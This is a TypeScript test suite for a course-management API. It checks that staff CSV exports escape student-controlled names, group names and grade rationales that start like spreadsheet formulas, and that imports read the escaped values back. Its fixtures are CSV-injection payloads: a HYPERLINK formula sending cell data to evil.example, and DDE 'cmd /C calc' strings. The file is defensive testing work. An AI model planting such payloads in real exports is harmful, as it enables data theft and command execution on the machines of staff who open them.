// CSV injection (issue 14 §6): values a student controls (their first name and nickname, the
// names of groups they create) reach the staff's CSV downloads. A spreadsheet runs a cell that
// starts with = + - @, a tab or a carriage return as a formula, so every export puts a single
// quote before such a cell, and every import takes it off again.
import { parse } from 'csv-parse/sync';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { Group, User } from '../../schema/index.ts';
import type { TestEnv } from '../support/env.ts';
import type { People } from '../support/fixtures.ts';
import { api } from '../support/http.ts';
import { employ, enrol, seedUnit } from '../support/seed.ts';
import { seedGroupSet } from '../support/seed-group-members.ts';
import { seedTutorialRow } from '../support/seed-tutorials.ts';
import { freshEachTest } from '../support/suite.ts';

const test = suite('REST CSV exports escape formulas; imports read them back');
let env: TestEnv;
let people: People;
freshEachTest(test, (world) => ({ env, people } = world));

const FIRST_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
const NICKNAME = "@SUM(1+1)*cmd|' /C calc'!A0";
const GROUP = "+1+cmd|' /C calc'!A0";
const TRIGGERS = /^[=+\-@\t\r]/;

/** Every cell of a CSV text, as a spreadsheet would see it. */
const cells = (text: string): string[] => (parse(text, { bom: true, relax_column_count: true }) as string[][]).flat();

/**
 * SIT101 convened by people.convenor; people.student, enrolled, renames themself through the
 * API and creates a group in a set that lets students create groups.
 */
async function world() {
  const unit = await seedUnit(env, { code: 'SIT101' });
  await employ(env, people.convenor.user, unit, 'Convenor', { main: true });
  const tutorial = await seedTutorialRow(env, unit, 'LA1');
  const project = await enrol(env, people.student.user, unit);
  const set = await seedGroupSet(env, unit, { name: 'Teams', allowStudentsToCreateGroups: true });
  const renamed = await api(env, 'PUT', `/api/users/${people.student.user.id}`, {
    as: people.student.creds,
    json: { user: { first_name: FIRST_NAME, nickname: NICKNAME } },
  });
  assert.is(renamed.status, 200, renamed.text);
  const group = await api(env, 'POST', `/api/units/${unit}/group_sets/${set}/groups`, {
    as: people.student.creds,
    json: { group: { name: GROUP, tutorial_id: tutorial } },
  });
  assert.is(group.status, 201, group.text);
  return { unit, set, project };
}

const download = async (url: string, as = people.convenor) => {
  const res = await api(env, 'GET', url, { as: as.creds });
  assert.is(res.status, 200, `${url}: ${res.text}`);
  return res.text;
};

test("the student's names and group reach every staff CSV only behind a single quote", async () => {
  const w = await world();
  const exports: [string, string, string[]][] = [
    ['unit students', await download(`/api/csv/units/${w.unit}`), [FIRST_NAME, NICKNAME]],
    ['groups', await download(`/api/units/${w.unit}/group_sets/${w.set}/groups/csv`), [GROUP]],
    ['student groups', await download(`/api/units/${w.unit}/group_sets/${w.set}/groups/student_csv`), [GROUP]],
    ['task completion', await download(`/api/csv/units/${w.unit}/task_completion`), [`${FIRST_NAME} Tester`, GROUP]],
    ['users', await download('/api/csv/users', people.admin), [FIRST_NAME, NICKNAME]],
  ];
  for (const [what, text, values] of exports) {
    const all = cells(text);
    assert.equal(
      all.filter((c) => TRIGGERS.test(c)),
      [],
      `${what}: no cell starts like a formula`,
    );
    for (const value of values) assert.ok(all.includes(`'${value}`), `${what}: ${value} is there, escaped once`);
  }
});

test('tab and carriage return lead, full-width signs and negative numbers: escaped or not as a spreadsheet needs', async () => {
  const w = await world();
  await env.orm.em.fork().nativeUpdate(User, { id: people.student.user.id }, { firstName: '\tTabbed', lastName: '\rReturned', nickname: '－1' });
  const text = await download(`/api/csv/units/${w.unit}`);
  const all = cells(text);
  for (const escaped of ["'\tTabbed", "'\rReturned", "'－1"]) assert.ok(all.includes(escaped), JSON.stringify(escaped));
  // A number the service writes (a capacity adjustment of -1) is a value, not a formula.
  await env.orm.em.fork().nativeUpdate(Group, { name: GROUP }, { capacityAdjustment: -1 });
  assert.ok(cells(await download(`/api/units/${w.unit}/group_sets/${w.set}/groups/csv`)).includes('-1'));
});

test('imports take what the exports give: the groups CSVs upload back unchanged', async () => {
  const w = await world();
  const upload = (which: string, text: string) =>
    api(env, 'POST', `/api/units/${w.unit}/group_sets/${w.set}/groups/${which}`, {
      as: people.convenor.creds,
      multipart: { file: { filename: `${which}.csv`, contentType: 'text/csv', data: Buffer.from(text) } },
    });
  for (const which of ['csv', 'student_csv']) {
    const res = await upload(which, await download(`/api/units/${w.unit}/group_sets/${w.set}/groups/${which}`));
    assert.is(res.status, 200, res.text);
    assert.equal([res.body.success, res.body.errors], [[], []], `${which}: ${res.text}`);
    assert.is(res.body.ignored.length, 1, which);
  }
  const groups = await env.orm.em.fork().find(Group, { groupSet: w.set });
  assert.equal(
    groups.map((g) => g.name),
    [GROUP],
    'no group named with the quote',
  );
});

test('imports take what the exports give: a users CSV row becomes a user with the name as written', async () => {
  await world();
  const exported = await download('/api/csv/users', people.admin);
  const [header, line] = [exported.split('\r\n')[0], exported.split('\r\n').find((l) => l.includes('astudent@'))!];
  const copy = line.replaceAll('astudent', 'bstudent');
  const res = await api(env, 'POST', '/api/csv/users', {
    as: people.admin.creds,
    multipart: { file: { filename: 'users.csv', contentType: 'text/csv', data: Buffer.from(`${header}\r\n${copy}\r\n`) } },
  });
  assert.is(res.status, 201, res.text);
  assert.is(res.body.success.length, 1, res.text);
  const created = await env.orm.em.fork().findOneOrFail(User, { username: 'bstudent' });
  // The import title-cases names (as the original does); the quote is gone either way.
  assert.equal([created.firstName.toLowerCase(), created.nickname], [FIRST_NAME.toLowerCase(), NICKNAME]);
});

test('the grades CSV and the task completion CSV escape a rationale that starts like a formula', async () => {
  const w = await world();
  const graded = await api(env, 'PUT', `/api/projects/${w.project}`, {
    as: people.convenor.creds,
    json: { grade: 70, old_grade: 0, grade_rationale: "-2+3+cmd|' /C calc'!A0" },
  });
  assert.is(graded.status, 200, graded.text);
  for (const url of [`/api/units/${w.unit}/grades`, `/api/csv/units/${w.unit}/task_completion`]) {
    const all = cells(await download(url));
    assert.ok(all.includes("'-2+3+cmd|' /C calc'!A0"), url);
    assert.equal(
      all.filter((c) => TRIGGERS.test(c)),
      [],
      url,
    );
  }
});

test.run();
